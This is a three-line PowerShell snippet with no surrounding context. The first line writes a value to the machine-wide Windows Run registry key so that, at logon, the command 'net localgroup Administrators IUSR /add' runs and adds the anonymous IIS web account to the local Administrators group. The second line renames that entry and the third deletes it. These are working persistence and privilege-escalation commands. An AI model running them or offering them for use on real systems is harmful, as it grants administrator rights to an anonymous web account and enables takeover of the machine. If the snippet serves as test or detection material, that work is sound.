Set-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name x -Value 'net localgroup Administrators IUSR /add'
Rename-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name x -NewName y
Remove-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name y
